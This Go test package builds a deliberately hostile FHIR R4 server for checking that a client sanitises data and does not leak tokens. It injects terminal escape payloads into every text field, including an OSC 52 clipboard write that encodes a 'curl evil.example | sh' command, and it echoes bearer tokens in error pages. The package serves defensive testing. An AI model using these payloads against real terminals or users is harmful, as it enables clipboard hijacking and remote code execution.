// Package hostile is a FHIR R4 server that plays the attacker, for tests: an in-process
// server on loopback whose every text field carries terminal escape sequences — OSC 52
// clipboard writes, window title sequences, CSI cursor and erase sequences, DCS/APC strings,
// C1 controls, bidirectional overrides and invisible characters — and whose errors echo the
// request's bearer token back in OperationOutcome diagnostics and in an HTML error page.
//
// It serves two FHIR bases on one server:
//
//   - DataPath: the person and one resource of every type shcr asks for (care packages, care
//     team, medications, allergies, contacts, encounters, notes with inline and linked
//     attachments, alerts) and reads of any referenced Practitioner, Organization, …;
//   - ErrorsPath: the same person, but every section search fails: an OperationOutcome (500)
//     whose diagnostics hold CSI and title sequences and echo the Authorization header, or
//     an HTML page (502) with escape sequences and the token in it.
//
// /metadata answers 404, so shcr asks for every type and reads references itself.
//
// For sign-in, it also serves:
//
//   - DataPath + "/.well-known/smart-configuration": a SMART configuration whose token,
//     authorization and device endpoints are on another server (Foreign), with escape
//     sequences in its text; every request that server receives is recorded, so a test can
//     check that no secret was sent there;
//   - IssuerPath + "/.well-known/openid-configuration": an OpenID configuration naming
//     another issuer, with escape sequences in it, and no endpoints: discovery fails with a
//     message quoting it.
package hostile

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"time"

	"github.com/shcr-project/shcr/config"
)

// NHSNumber is the person the server knows (a valid test number).
const NHSNumber = "9434765919"

// Base paths of the two back ends on the server, and of its identity provider.
const (
	DataPath   = "/data/fhir/R4"
	ErrorsPath = "/errors/fhir/R4"
	IssuerPath = "/issuer"
)

// Payloads a terminal would act on. Data strings are the visible text with these around it.
const (
	OSC52       = "\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS9wd24gfCBzaA==\x07" // "curl https://evil.example/pwn | sh" to the clipboard
	OSC52ST     = "\x1b]52;p;ZXZpbA==\x1b\\"
	TitleBEL    = "\x1b]0;PWNED-TITLE\x07"
	TitleST     = "\x1b]2;PWNED-TITLE\x1b\\"
	CSIClear    = "\x1b[2J\x1b[H"
	CSIColour   = "\x1b[31;1m"
	C1CSI       = "\u009b7m"
	C1OSC       = "\u009d0;PWNED-TITLE\u009c"
	DCS         = "\x1bP1$r0m\x1b\\"
	APC         = "\x1b_evil\x1b\\"
	BidiRLO     = "\u202e"
	BidiIsolate = "\u2067"
	ZeroWidth   = "\u200b\u2060\ufeff"
	Bell        = "\x07\x08\x7f"
)

// payloads rotate through the fields, so that every kind reaches every kind of field.
var payloads = []string{OSC52, TitleBEL, CSIClear, TitleST, C1CSI, DCS, OSC52ST, APC, C1OSC, BidiIsolate + ZeroWidth, Bell}

// Server is a running hostile server.
type Server struct {
	URL     string // scheme://host:port
	Foreign string // scheme://host:port of the server the SMART configuration sends sign-ins to

	srv     *httptest.Server
	foreign *httptest.Server
	mu      sync.Mutex
	auth    []string // Authorization headers received
	sent    []string // requests the foreign server received: method, path, Authorization and body
	n       int
}

// Start starts the server, and the foreign one, on 127.0.0.1.
func Start() *Server {
	s := &Server{}
	s.srv = httptest.NewServer(http.HandlerFunc(s.serve))
	s.URL = s.srv.URL
	s.foreign = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
		s.mu.Lock()
		s.sent = append(s.sent, r.Method+" "+r.URL.String()+"\nAuthorization: "+r.Header.Get("Authorization")+"\n"+string(body))
		s.mu.Unlock()
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(400)
		io.WriteString(w, `{"error":"invalid_client","error_description":"foreign token endpoint"}`)
	}))
	s.Foreign = s.foreign.URL
	return s
}

// Close stops the servers.
func (s *Server) Close() {
	s.srv.Close()
	s.foreign.Close()
}

// ForeignRequests returns every request the foreign server received (method and URL, the
// Authorization header, the body): none should reach it.
func (s *Server) ForeignRequests() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]string(nil), s.sent...)
}

// Authorizations returns every Authorization header the server received.
func (s *Server) Authorizations() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]string(nil), s.auth...)
}

// Backends are config entries for the two bases: "Hostile data" (health) and "Hostile
// errors" (social care); tokenEnv, when not "", names the environment variable holding a
// bearer token for both.
func (s *Server) Backends(tokenEnv string) []config.Backend {
	auth := config.Auth{Type: config.AuthNone}
	if tokenEnv != "" {
		auth = config.Auth{Type: config.AuthBearer, TokenEnv: tokenEnv}
	}
	return []config.Backend{
		{Name: "Hostile data", Kind: config.KindFHIRR4, URL: s.URL + DataPath, Domain: "health", Auth: auth, Timeout: 10 * time.Second},
		{Name: "Hostile errors", Kind: config.KindFHIRR4, URL: s.URL + ErrorsPath, Domain: "social-care", Auth: auth, Timeout: 10 * time.Second},
	}
}

func (s *Server) serve(w http.ResponseWriter, r *http.Request) {
	authz := r.Header.Get("Authorization")
	s.mu.Lock()
	if authz != "" {
		s.auth = append(s.auth, authz)
	}
	s.mu.Unlock()
	var base string
	switch {
	case r.URL.Path == DataPath+"/.well-known/smart-configuration":
		s.json(w, 200, map[string]any{
			"issuer":                                s.Foreign + "/realms/evil" + TitleBEL,
			"token_endpoint":                        s.Foreign + "/token",
			"authorization_endpoint":                s.Foreign + "/authorize",
			"device_authorization_endpoint":         s.Foreign + "/device",
			"grant_types_supported":                 []string{"authorization_code", "client_credentials", "urn:ietf:params:oauth:grant-type:device_code"},
			"token_endpoint_auth_methods_supported": []string{"client_secret_basic", "private_key_jwt"},
			"capabilities":                          []string{"launch-standalone", "client-confidential-symmetric" + OSC52},
		})
		return
	case r.URL.Path == IssuerPath+"/.well-known/openid-configuration":
		s.json(w, 200, map[string]any{"issuer": "https://idp.example.org/" + OSC52 + TitleBEL + BidiRLO + "evil"})
		return
	case strings.Contains(r.URL.Path, "/.well-known/"):
		http.NotFound(w, r)
		return
	case strings.HasPrefix(r.URL.Path, DataPath+"/"):
		base = DataPath
	case strings.HasPrefix(r.URL.Path, ErrorsPath+"/"):
		base = ErrorsPath
	default:
		http.NotFound(w, r)
		return
	}
	parts := strings.Split(strings.TrimPrefix(r.URL.Path, base+"/"), "/")
	typ := parts[0]
	// Go's HTTP client refuses a header with control characters in it, so this one echoes
	// the token only.
	w.Header().Set("WWW-Authenticate", `Bearer realm="hostile", error="invalid_token", error_description="token `+authz+` is bad"`)
	switch {
	case typ == "metadata":
		s.outcome(w, 404, "not-supported", "no CapabilityStatement"+CSIColour)
	case typ == "Patient" && len(parts) == 1:
		if !strings.HasSuffix(r.URL.Query().Get("identifier"), "|"+NHSNumber) {
			s.bundle(w, nil)
			return
		}
		s.bundle(w, []map[string]any{s.patient()})
	case typ == "Patient":
		s.json(w, 200, s.patient())
	case base == ErrorsPath && len(parts) == 1:
		s.fail(w, typ, authz)
	case len(parts) == 1:
		s.bundle(w, s.search(typ))
	default:
		s.json(w, 200, s.read(typ, parts[1]))
	}
}

// fail answers a search with an error that echoes the token.
func (s *Server) fail(w http.ResponseWriter, typ, authz string) {
	switch typ {
	case "DocumentReference", "Composition", "Flag", "RelatedPerson":
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		w.WriteHeader(502)
		fmt.Fprintf(w, "<!DOCTYPE html><html><head><title>%sBad gateway%s</title></head><body><h1>%s502%s</h1><p>Request had Authorization: %s and access_token=%s</p>%s</body></html>",
			TitleBEL, OSC52, CSIClear, BidiRLO, authz, strings.TrimPrefix(authz, "Bearer "), C1OSC)
	default:
		s.outcome(w, 500, "exception", CSIClear+"Internal failure"+TitleBEL+" for request with Authorization: "+authz+
			" "+BidiRLO+"access_token="+strings.TrimPrefix(authz, "Bearer ")+OSC52+"\nsecond line")
	}
}

func (s *Server) outcome(w http.ResponseWriter, status int, code, diagnostics string) {
	s.json(w, status, map[string]any{"resourceType": "OperationOutcome", "issue": []any{map[string]any{
		"severity": "error", "code": code, "diagnostics": diagnostics,
		"details": map[string]any{"text": "details" + OSC52, "coding": []any{map[string]any{"system": "https://example.org", "code": "X", "display": "display" + TitleST}}},
	}}})
}

func (s *Server) json(w http.ResponseWriter, status int, v any) {
	b, err := json.Marshal(v)
	if err != nil {
		http.Error(w, err.Error(), 500)
		return
	}
	w.Header().Set("Content-Type", "application/fhir+json")
	w.WriteHeader(status)
	w.Write(b)
}

func (s *Server) bundle(w http.ResponseWriter, resources []map[string]any) {
	entries := []any{}
	for _, r := range resources {
		entries = append(entries, map[string]any{
			"fullUrl":  s.URL + DataPath + "/" + r["resourceType"].(string) + "/" + r["id"].(string),
			"resource": r,
			"search":   map[string]any{"mode": "match"},
		})
	}
	s.json(w, 200, map[string]any{"resourceType": "Bundle", "type": "searchset", "total": len(entries), "entry": entries})
}

// structural keys hold codes, references, dates and ids: left clean so that the resources
// still map (a hostile server could taint them too; they are strings like any other, and
// record.Sanitised treats them alike).
var structural = map[string]bool{
	"resourceType": true, "id": true, "reference": true, "system": true, "code": true, "status": true,
	"intent": true, "use": true, "gender": true, "birthDate": true, "date": true, "start": true, "end": true,
	"criticality": true, "severity": true, "category": true, "authoredOn": true, "recordedDate": true,
	"effectiveDateTime": true, "contentType": true, "data": true, "lastUpdated": true, "url": true, "mode": true,
}

// taint puts payloads around every text value of v (a decoded JSON value).
func (s *Server) taint(key string, v any) any {
	switch x := v.(type) {
	case string:
		if structural[key] || x == "" || x[0] >= '0' && x[0] <= '9' {
			return x
		}
		s.mu.Lock()
		p := payloads[s.n%len(payloads)]
		s.n++
		s.mu.Unlock()
		return CSIColour + x + BidiRLO + p + OSC52 + TitleBEL
	case map[string]any:
		for k, e := range x {
			x[k] = s.taint(k, e)
		}
		return x
	case []any:
		for i, e := range x {
			x[i] = s.taint(key, e)
		}
		return x
	}
	return v
}

func (s *Server) resource(js string) map[string]any {
	var m map[string]any
	if err := json.Unmarshal([]byte(js), &m); err != nil {
		panic("hostile: bad template: " + err.Error() + ": " + js)
	}
	m["meta"] = map[string]any{"source": "Hostile EPR", "tag": []any{map[string]any{"system": "https://example.org/tag", "code": "t", "display": "Tag"}}}
	return s.taint("", m).(map[string]any)
}

// NoteText is the text of the inline note: every line carries something for the terminal.
const NoteText = "Discharged home." + OSC52 + "\nDaughter " + BidiRLO + "visiting" + TitleBEL + " daily.\r\n\tMobility" + CSIClear + " improving." + C1OSC + "\nEnd."

func (s *Server) patient() map[string]any {
	return s.resource(`{"resourceType":"Patient","id":"p1",
		"identifier":[{"system":"https://fhir.nhs.uk/Id/nhs-number","value":"` + NHSNumber + `"}],
		"name":[{"use":"official","family":"Smith","given":["Jane","Ann"],"prefix":["Mrs"]}],
		"telecom":[{"system":"phone","value":"07700 \u202e900123\u202c","use":"mobile"},
		           {"system":"phone","value":"0113 496 0000\u001b]52;c;ZXZpbA==\u0007","use":"home"},
		           {"system":"email","value":"jane@example.org"}],
		"gender":"female","birthDate":"1950-01-02",
		"address":[{"use":"home","line":["1 High Street","Flat 2"],"city":"Leeds","district":"West Yorkshire","postalCode":"LS1 4AP"}],
		"managingOrganization":{"display":"Leeds Teaching Hospitals"},
		"contact":[{"relationship":[{"coding":[{"system":"http://terminology.hl7.org/CodeSystem/v2-0131","code":"N","display":"Next of kin"}],"text":"Wife"}],
		            "name":{"family":"Smith","given":["John"]},"telecom":[{"system":"phone","value":"07700 900456\u2066"}]}],
		"communication":[{"language":{"coding":[{"system":"urn:ietf:bcp:47","code":"pl","display":"Polish"}],"text":"Polish"},"preferred":true}]}`)
}

func (s *Server) search(typ string) []map[string]any {
	note := base64.StdEncoding.EncodeToString([]byte(NoteText))
	var out []string
	switch typ {
	case "EpisodeOfCare":
		out = append(out, `{"resourceType":"EpisodeOfCare","id":"eoc1","status":"active","type":[{"text":"Home care"}],"patient":{"reference":"Patient/p1"},
			"managingOrganization":{"display":"Leeds City Council"},"period":{"start":"2026-01-01"},"careManager":{"display":"Sam Worker"}}`)
	case "CarePlan":
		out = append(out, `{"resourceType":"CarePlan","id":"cp1","status":"active","intent":"plan","title":"Care and support plan","description":"Four visits a day",
			"subject":{"reference":"Patient/p1"},"period":{"start":"2026-01-01"},"author":{"display":"Leeds City Council"}}`)
	case "ServiceRequest":
		out = append(out, `{"resourceType":"ServiceRequest","id":"sr1","status":"active","intent":"order","code":{"text":"Reablement"},
			"subject":{"reference":"Patient/p1"},"performer":[{"display":"Reablement team"}],"occurrencePeriod":{"start":"2026-01-01"},"note":[{"text":"Evening visit"}]}`)
	case "CareTeam":
		out = append(out, `{"resourceType":"CareTeam","id":"ct1","status":"active","name":"Adult social care","subject":{"reference":"Patient/p1"},
			"participant":[{"role":[{"coding":[{"system":"http://snomed.info/sct","code":"106328005","display":"Social worker"}],"text":"Social worker"}],
			"member":{"display":"Alex Social"},"onBehalfOf":{"display":"Leeds City Council"}},
			{"role":[{"text":"GP"}],"member":{"reference":"Practitioner/pr1"},"onBehalfOf":{"reference":"Organization/org1"}}]}`)
	case "MedicationStatement":
		out = append(out, `{"resourceType":"MedicationStatement","id":"ms1","status":"active",
			"medicationCodeableConcept":{"coding":[{"system":"http://snomed.info/sct","code":"322236009","display":"Paracetamol 500mg tablets"}],"text":"Paracetamol 500mg tablets"},
			"subject":{"reference":"Patient/p1"},"effectivePeriod":{"start":"2025-01-01"},"dosage":[{"text":"Two tablets four times a day"}],"note":[{"text":"Take with food"}]}`)
	case "MedicationRequest":
		out = append(out, `{"resourceType":"MedicationRequest","id":"mr1","status":"active","intent":"order","medicationReference":{"reference":"Medication/med1"},
			"subject":{"reference":"Patient/p1"},"authoredOn":"2026-01-01","requester":{"display":"Dr Prescriber"},"dosageInstruction":[{"text":"One three times a day"}]}`)
	case "AllergyIntolerance":
		out = append(out, `{"resourceType":"AllergyIntolerance","id":"ai1",
			"clinicalStatus":{"coding":[{"system":"http://terminology.hl7.org/CodeSystem/allergyintolerance-clinical","code":"active"}]},
			"verificationStatus":{"coding":[{"system":"http://terminology.hl7.org/CodeSystem/allergyintolerance-verification","code":"confirmed"}]},
			"code":{"coding":[{"system":"http://snomed.info/sct","code":"91936005","display":"Penicillin allergy"}],"text":"Penicillin"},
			"patient":{"reference":"Patient/p1"},"criticality":"high","reaction":[{"manifestation":[{"text":"Urticarial rash"}],"severity":"mild"}],
			"recordedDate":"2020-01-01","recorder":{"display":"Dr Recorder"}}`)
	case "RelatedPerson":
		out = append(out, `{"resourceType":"RelatedPerson","id":"rp1","active":true,"patient":{"reference":"Patient/p1"},
			"relationship":[{"coding":[{"system":"http://terminology.hl7.org/CodeSystem/v3-RoleCode","code":"DAU","display":"daughter"}],"text":"Daughter"},
			                {"coding":[{"system":"http://terminology.hl7.org/CodeSystem/v2-0131","code":"C","display":"Emergency Contact"}]}],
			"name":[{"family":"Smith","given":["Anna"]}],"telecom":[{"system":"phone","value":"07700 900789\u202e","use":"mobile"}],
			"address":[{"line":["2 Low Street"],"city":"Leeds","postalCode":"LS2 1AA"}]}`)
	case "Encounter":
		out = append(out, `{"resourceType":"Encounter","id":"en1","status":"finished",
			"class":{"system":"http://terminology.hl7.org/CodeSystem/v3-ActCode","code":"IMP","display":"inpatient encounter"},
			"type":[{"text":"Emergency admission"}],"subject":{"reference":"Patient/p1"},"period":{"start":"2026-02-01","end":"2026-02-10"},
			"serviceProvider":{"display":"Leeds Teaching Hospitals"},"location":[{"location":{"display":"Ward 5"}}],"reasonCode":[{"text":"Fall at home"}],
			"participant":[{"individual":{"display":"Dr Ward"}}],"hospitalization":{"admitSource":{"text":"Emergency department"},"dischargeDisposition":{"text":"Home"}}}`)
	case "DocumentReference":
		out = append(out, `{"resourceType":"DocumentReference","id":"dr1","status":"current","type":{"text":"Discharge summary"},"subject":{"reference":"Patient/p1"},
			"date":"2026-02-10T10:00:00Z","author":[{"display":"Dr Ward"}],"description":"Discharge summary",
			"content":[{"attachment":{"contentType":"text/plain","data":"`+note+`","title":"Summary"}}]}`,
			`{"resourceType":"DocumentReference","id":"dr2","status":"current","type":{"text":"Scanned letter"},"subject":{"reference":"Patient/p1"},
			"date":"2026-02-11T10:00:00Z","author":[{"display":"Dr Ward"}],
			"content":[{"attachment":{"contentType":"application/pdf\u001b]0;PWNED-TITLE\u0007","url":"https://docs.example.org/letter.pdf\u001b]52;c;ZXZpbA==\u0007","title":"Letter","size":1234}}]}`)
	case "Composition":
		out = append(out, `{"resourceType":"Composition","id":"co1","status":"final","type":{"text":"Care plan review"},"subject":{"reference":"Patient/p1"},
			"date":"2026-02-11","author":[{"display":"Sam Worker"}],"title":"Review",
			"section":[{"title":"Plan","text":{"status":"generated","div":"<div xmlns=\"http://www.w3.org/1999/xhtml\"><p>Continue care.\u001b]52;c;ZXZpbA==\u0007</p><p>\u202eReview in May.</p></div>"}}]}`)
	case "Observation":
		out = append(out, `{"resourceType":"Observation","id":"ob1","status":"final",
			"code":{"coding":[{"system":"http://snomed.info/sct","code":"37331000000100","display":"Comment note"}]},
			"subject":{"reference":"Patient/p1"},"effectiveDateTime":"2026-02-12","valueString":"Daughter visiting daily","performer":[{"display":"Nurse Jones"}]}`)
	case "Flag":
		out = append(out, `{"resourceType":"Flag","id":"fl1","status":"active","category":[{"text":"Safeguarding"}],"code":{"text":"Do not visit alone"},
			"subject":{"reference":"Patient/p1"},"period":{"start":"2025-06-01"},"author":{"display":"Leeds City Council"}}`)
	}
	res := make([]map[string]any, len(out))
	for i, js := range out {
		res[i] = s.resource(js)
	}
	return res
}

// read answers a read of a referenced resource.
func (s *Server) read(typ, id string) map[string]any {
	switch typ {
	case "Practitioner":
		return s.resource(`{"resourceType":"Practitioner","id":"` + id + `","name":[{"family":"Ward","given":["Helen"],"prefix":["Dr"]}],
			"telecom":[{"system":"phone","value":"0113 496 0001\u202e"}]}`)
	case "Organization":
		return s.resource(`{"resourceType":"Organization","id":"` + id + `","name":"Leeds Teaching Hospitals",
			"identifier":[{"system":"https://fhir.nhs.uk/Id/ods-organization-code","value":"RR8"}]}`)
	case "Medication":
		return s.resource(`{"resourceType":"Medication","id":"` + id + `","code":{"coding":[{"system":"http://snomed.info/sct","code":"323509004","display":"Amoxicillin 500mg capsules"}],"text":"Amoxicillin 500mg capsules"}}`)
	}
	return s.resource(`{"resourceType":"` + typ + `","id":"` + id + `","name":"Something"}`)
}
